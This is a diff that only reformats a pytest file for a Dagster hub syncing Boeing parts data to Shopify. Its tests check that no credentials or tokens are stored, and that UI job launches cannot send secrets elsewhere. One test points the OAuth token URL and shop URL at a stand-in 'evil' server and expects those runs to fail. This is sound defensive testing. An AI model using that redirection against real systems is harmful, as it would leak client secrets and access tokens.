@@ -25,8 +25,9 @@ def hub(tmp_path_factory, pg_admin_url):
 
 
 def _sync_now(hub, part: str, resources: dict | None = None) -> str:
-    return hub.launch_job("sync_part_now", {"ops": {"sync_one_part": {"config": {"part_number": part}}},
-                                            "resources": resources or {}})
+    return hub.launch_job(
+        "sync_part_now", {"ops": {"sync_one_part": {"config": {"part_number": part}}}, "resources": resources or {}}
+    )
 
 
 @pytest.mark.slow
@@ -43,16 +44,21 @@ def test_no_credential_or_issued_token_is_stored_anywhere(hub):
 
     tokens = hub.issued_tokens()
     assert len(tokens) >= 4  # an access and a part token at least twice (expiry forced a refresh)
-    secrets = {"boeing client secret": hub.credentials["client_secret"], "boeing password": hub.credentials["password"],
-               "shopify access token": hub.credentials["shopify_token"],
-               **{f"issued token {i}": t for i, t in enumerate(tokens)}}
+    secrets = {
+        "boeing client secret": hub.credentials["client_secret"],
+        "boeing password": hub.credentials["password"],
+        "shopify access token": hub.credentials["shopify_token"],
+        **{f"issued token {i}": t for i, t in enumerate(tokens)},
+    }
 
     result = ScanResult()
     scan_database(hub.instance_db_url, secrets, result)  # runs, events, schedules, …: every table
     scan_database(hub.database_url, secrets, result)  # the hub's store: every table
     scan_folder(hub.home, secrets, result)  # DAGSTER_HOME: compute logs (stdout/stderr of every step)
-    print(f"\nsecrets scan: {len(secrets)} secret values ({len(tokens)} issued tokens) over {result.places} tables and "
-          f"files, {result.rows} rows/files: found {result.count}")
+    print(
+        f"\nsecrets scan: {len(secrets)} secret values ({len(tokens)} issued tokens) over {result.places} tables and "
+        f"files, {result.rows} rows/files: found {result.count}"
+    )
     assert result.count == 0, result.hits
 
     # The scan reads what it claims to: the same walk finds what those places do hold.
@@ -66,9 +72,16 @@ def test_no_credential_or_issued_token_is_stored_anywhere(hub):
     assert result.places >= 40 and result.rows >= 300, (result.places, result.rows)
 
 
-BOEING_ENV = {"client_id": "BOEING_CLIENT_ID", "client_secret": "BOEING_CLIENT_SECRET", "username": "BOEING_USERNAME",
-              "password": "BOEING_PASSWORD", "oauth_token_url": "BOEING_OAUTH_TOKEN_URL",
-              "pna_oauth_url": "BOEING_PNA_OAUTH_URL", "pna_price_url": "BOEING_PNA_PRICE_URL", "scope": "BOEING_SCOPE"}
+BOEING_ENV = {
+    "client_id": "BOEING_CLIENT_ID",
+    "client_secret": "BOEING_CLIENT_SECRET",
+    "username": "BOEING_USERNAME",
+    "password": "BOEING_PASSWORD",
+    "oauth_token_url": "BOEING_OAUTH_TOKEN_URL",
+    "pna_oauth_url": "BOEING_PNA_OAUTH_URL",
+    "pna_price_url": "BOEING_PNA_PRICE_URL",
+    "scope": "BOEING_SCOPE",
+}
 
 
 @pytest.mark.slow
@@ -79,8 +92,10 @@ def test_a_launch_from_the_ui_cannot_send_a_secret_elsewhere(hub):
         boeing = {k: {"env": v} for k, v in BOEING_ENV.items()} | {"oauth_token_url": f"{evil.url}/oauth/token"}
         shopify = {"shop_url": evil.url, "access_token": {"env": "SHOPIFY_ACCESS_TOKEN"}}
         setup = {"resources": {"shopify": {"config": shopify}}}
-        runs = {"resources.shopify.config.shop_url": hub.launch_job("shopify_setup", setup),
-                "resources.boeing.config.oauth_token_url": _sync_now(hub, "ANY-PART", {"boeing": {"config": boeing}})}
+        runs = {
+            "resources.shopify.config.shop_url": hub.launch_job("shopify_setup", setup),
+            "resources.boeing.config.oauth_token_url": _sync_now(hub, "ANY-PART", {"boeing": {"config": boeing}}),
+        }
         for field, run_id in runs.items():
             assert hub.finished(run_id, 300).status == dg.DagsterRunStatus.FAILURE
             logs = "\n".join(dg.serialize_value(e) for e in hub.instance.all_logs(run_id))
